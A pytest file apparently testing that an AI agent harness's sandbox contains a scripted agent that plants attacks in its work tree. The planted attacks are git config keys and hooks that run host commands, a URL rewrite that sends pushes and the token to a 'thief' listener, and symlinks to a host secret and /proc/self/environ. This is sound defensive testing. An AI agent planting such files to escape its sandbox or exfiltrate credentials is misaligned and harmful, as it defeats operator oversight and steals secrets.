"""Attacks on the harness through what the agent leaves in the work tree (audit rows 15, 16,
31-41, 51): git configuration, hooks, alternates, symlinks and the agent branch's settings.

Each one runs the whole loop (signed webhook, worker, Podman sandbox, push, pull request) with
a scripted agent that plants the attack, and checks the host: no command ran there, no
request left for a server the agent named, and no host file reached the model or GitHub.
"""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

import pytest
from agent_fixtures import CALC_WITH_TESTS, FIX_SCRIPT

from bench import security
from devkit.simulator.git import git as simgit
from devkit.stack import stack

REPO = "acme/calc"

pytestmark = pytest.mark.podman


class Catcher:
    """A TCP listener on 127.0.0.1 that counts whoever connects (a token thief's server)."""

    def __init__(self) -> None:
        self.hits: list[bytes] = []

    async def __aenter__(self) -> Catcher:
        async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            self.hits.append(await reader.read(4096))
            writer.write(b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic\r\n"
                         b"Content-Length: 0\r\n\r\n")
            writer.close()

        self.server = await asyncio.start_server(handle, "127.0.0.1", 0)
        self.port = self.server.sockets[0].getsockname()[1]
        return self

    async def __aexit__(self, *exc: object) -> None:
        self.server.close()


def planted_config(markers: Path, thief: str, sim_url: str) -> str:
    """Every .git/config key the audit used to run a host command or steal the token (the
    bench's list), and a URL rewrite from the simulator to the thief."""
    return (security.PLANTED.format(m=markers, ws="/workspace", thief=f"{thief}/steal.git")
            + f'[url "{thief}/"]\n\tinsteadOf = {sim_url}/\n')


def plant_script(markers: Path, thief: str, sim_url: str) -> str:
    config = planted_config(markers, thief, sim_url)
    hook = f"#!/bin/sh\ntouch {markers}/hook\n"
    return (
        "git status --short && git log --oneline -1 && echo GIT-WORKS-IN-SANDBOX\n"
        f"cat >> .git/config <<'EOF'\n{config}EOF\n"
        "printf '* filter=pwn diff=pwn\\n' > .gitattributes\n"
        "echo /nonexistent/objects > .git/objects/info/alternates\n"
        "mkdir -p .git/hooks .githooks\n"
        f"for h in pre-commit post-commit pre-push reference-transaction; do "
        f"printf '{hook}' > .git/hooks/$h; cp .git/hooks/$h .githooks/$h; done\n"
        "chmod +x .git/hooks/* .githooks/*\n"
        f"printf '[core]\\n\\tfsmonitor = touch {markers}/include\\n' > extra.cfg\n"
    )


async def test_planted_git_config_runs_nothing_on_the_host_and_leaks_no_token(
        tmp_path: Path) -> None:
    markers = tmp_path / "markers"
    markers.mkdir()
    async with Catcher() as thief:
        thief_url = f"http://127.0.0.1:{thief.port}"
        async with stack(tmp_path, []) as s:  # the script needs the simulator's URL
            plant = plant_script(markers, thief_url, s.sim.base_url)
            # FIX_SCRIPT's finish twice: shown the files it planted, the agent keeps them.
            s.model.script = [{"tool": "bash", "args": {"command": plant}}, *FIX_SCRIPT,
                              FIX_SCRIPT[-1]]
            s.sim.add_repo(REPO, CALC_WITH_TESTS)
            job = await s.handed_over(REPO, "add() subtracts", "Fix add().")
            assert job.state == "succeeded", job.reason
            repo = s.sim.get_repo(REPO)
            pr = next(i for i in repo.issues.values() if i.pull)
            assert pr.pull is not None
            assert "return a + b" in simgit("show", f"{pr.pull.head}:calc.py", cwd=repo.path)
            tool_output = json.dumps(s.model.requests[1]["messages"][-1])
            assert "GIT-WORKS-IN-SANDBOX" in tool_output and "Initial commit" in tool_output
            assert "bad object" not in tool_output and str(tmp_path) not in tool_output
    assert sorted(p.name for p in markers.iterdir()) == []
    assert thief.hits == []


async def test_settings_and_instructions_come_from_the_default_branch_not_the_agent(
        tmp_path: Path) -> None:
    canary = tmp_path / "host-secret.txt"
    canary.write_text("HOST-CANARY-7f3a\n")
    source = tmp_path / "source"
    simgit("init", "-q", "--initial-branch=main", str(source))
    for name, text in CALC_WITH_TESTS.items():
        (source / name).parent.mkdir(exist_ok=True)
        (source / name).write_text(text)
    (source / "AGENTS.md").symlink_to(canary)
    (source / "CLAUDE.md").symlink_to("/proc/self/environ")
    simgit("add", "-A", cwd=source)
    simgit("commit", "-qm", "Initial commit", cwd=source)
    plant = {"tool": "create", "args": {
        "path": ".github/handoff.yml",
        "content": "test_command: echo PLANTED-TESTS\nsetup_command: touch SETUP-RAN\n"}}
    retry = [{"tool": "bash", "args": {"command": "ls"}},
             {"tool": "finish", "args": {"summary": "Looked again."}}]
    # FIX_SCRIPT's finish twice: shown the file it added, the agent keeps it.
    async with stack(tmp_path, [plant, *FIX_SCRIPT, FIX_SCRIPT[-1], *retry]) as s:
        s.sim.import_repo(REPO, source)
        job = await s.handed_over(REPO, "add() subtracts", "Fix add().")
        assert job.state == "succeeded", job.reason
        repo = s.sim.get_repo(REPO)
        pr = next(i for i in repo.issues.values() if i.pull)
        assert pr.pull is not None
        s.sim.comment(REPO, pr.number, "/retry check again", "acme")
        again = await s.wait_job(lambda j: j.kind == "retry")
        # The agent branch's handoff.yml set neither the tests nor a setup with network.
        assert "PLANTED" not in json.dumps(again.result.dump()), again.result
        assert "SETUP-RAN" not in simgit("ls-tree", "-r", "--name-only", pr.pull.head,
                                         cwd=repo.path)
        seen = json.dumps(s.model.requests) + json.dumps(
            [c.body for i in repo.issues.values() for c in i.comments] + [pr.body])
        assert "HOST-CANARY" not in seen and "PATH=" not in seen
